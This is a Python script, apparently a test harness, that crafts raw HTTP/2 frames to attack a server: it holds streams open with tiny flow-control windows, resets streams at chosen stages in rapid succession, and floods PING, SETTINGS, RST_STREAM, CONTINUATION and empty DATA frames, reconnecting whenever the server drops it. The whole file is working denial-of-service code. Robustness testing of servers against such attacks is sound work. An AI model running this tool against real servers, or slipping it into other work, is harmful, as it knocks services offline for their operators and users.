"""Misuses HTTP/2, as the first argument says, by frames of its own making (RFC 9113, section 6).

    h2_adversary.py window HOST:PORT SIZE PATH    80 streams with windows of SIZE, until its input ends
    h2_adversary.py resets HOST:PORT STAGE PATH   streams reset at a stage, for some seconds
    h2_adversary.py flood  HOST:PORT KIND         frames of a kind, for some seconds

It answers PING, so that it looks alive, and connects anew when the server has enough.
"""

import contextlib
import select
import socket
import sys
import time

import hpack

DATA, HEADERS, RST_STREAM, SETTINGS, PING, CONTINUATION = 0, 1, 3, 4, 6, 9
END_STREAM, ACK, END_HEADERS = 1, 1, 4
CANCEL = (8).to_bytes(4, "big")
SECONDS = 3
#: Streams that are open at the same time on one connection; fewer than the server allows.
STREAMS = 40


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


class Connection:
    def __init__(self, address: str, window: int = 65_535):
        self.authority = address
        host, port = address.rsplit(":", 1)
        self.socket = socket.create_connection((host, int(port)), timeout=10)
        settings = (4).to_bytes(2, "big") + window.to_bytes(4, "big")
        self.socket.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0, settings))
        self.stream, self.received = -1, b""

    def head(self, path: str) -> bytes:
        fields = [(":method", "GET"), (":scheme", "http"), (":authority", self.authority), (":path", path)]
        return hpack.Encoder().encode(fields)

    def ask(self, path: str) -> bytes:
        self.stream += 2
        return frame(HEADERS, END_STREAM | END_HEADERS, self.stream, self.head(path))

    def pump(self, seconds: float) -> set[int]:
        """Reads for a time and answers PING; gives the streams that data came for."""
        answered, until = set(), time.monotonic() + seconds
        while (left := until - time.monotonic()) > 0:
            if not select.select([self.socket], [], [], left)[0]:
                break
            data = self.socket.recv(1 << 20)
            if not data:
                raise ConnectionError
            self.received += data
            while len(self.received) >= 9 + (length := int.from_bytes(self.received[:3], "big")):
                kind, flags, payload = self.received[3], self.received[4], self.received[9 : 9 + length]
                stream = int.from_bytes(self.received[5:9], "big")
                self.received = self.received[9 + length :]
                if kind == PING and not flags & ACK:
                    self.socket.sendall(frame(PING, ACK, 0, payload))
                elif kind == DATA:
                    answered.add(stream)
        return answered


def window(address: str, size: str, path: str):
    """Two connections take nothing, and stay for as long as they may."""
    connections = [Connection(address, int(size)) for _ in range(2)]
    for connection in connections:
        connection.socket.sendall(b"".join(connection.ask(path) for _ in range(STREAMS)))
    print("asked", flush=True)
    while not select.select([sys.stdin], [], [], 0)[0]:
        for connection in list(connections):
            try:
                connection.pump(0.05)
            except OSError:
                connections.remove(connection)
                print("closed", flush=True)


def again(address: str, attack):
    """Attacks on one connection after the other, for a time; gives how many there were."""
    until, connections = time.monotonic() + SECONDS, 0
    while time.monotonic() < until:
        connections += 1
        with contextlib.suppress(OSError):
            connection = Connection(address)
            while time.monotonic() < until:
                attack(connection)
    print(connections, flush=True)


def resets(address: str, stage: str, path: str):
    def reset(streams) -> bytes:
        return b"".join(frame(RST_STREAM, 0, stream, CANCEL) for stream in streams)

    def attack(connection: Connection):
        if stage == "head":
            # Within a head that has no end.
            connection.stream += 2
            begun = frame(HEADERS, END_STREAM, connection.stream, connection.head(path))
            connection.socket.sendall(begun + reset([connection.stream]))
            connection.pump(0.01)
            return
        count = STREAMS if stage == "queued" else 4
        asked = b"".join(connection.ask(path) for _ in range(count))
        streams = set(range(connection.stream - 2 * count + 2, connection.stream + 1, 2))
        connection.socket.sendall(asked)
        if stage == "answering":
            begun, until = set(), time.monotonic() + 1
            while not begun and time.monotonic() < until:
                begun = connection.pump(0.01)
        else:
            connection.pump(0.02)
        connection.socket.sendall(reset(streams))

    again(address, attack)


FLOODS = {
    "ping": lambda connection: frame(PING, 0, 0, b"12345678") * 1000,
    "settings": lambda connection: frame(SETTINGS, 0, 0) * 1000,
    "reset": lambda connection: frame(RST_STREAM, 0, 1, CANCEL) * 1000,
    "continuation": lambda connection: frame(CONTINUATION, 0, 1, b"\x00\x01a\x01b" * 1000),
    "empty data": lambda connection: frame(DATA, 0, 1) * 1000,
}


def flood(address: str, kind: str):
    def attack(connection: Connection):
        if connection.stream < 0:
            connection.stream = 1
            flags = 0 if kind == "continuation" else END_HEADERS
            connection.socket.sendall(frame(HEADERS, flags, 1, connection.head("/hello")))
        connection.socket.sendall(FLOODS[kind](connection))
        connection.pump(0.001)

    again(address, attack)


if __name__ == "__main__":
    globals()[sys.argv[1]](*sys.argv[2:])
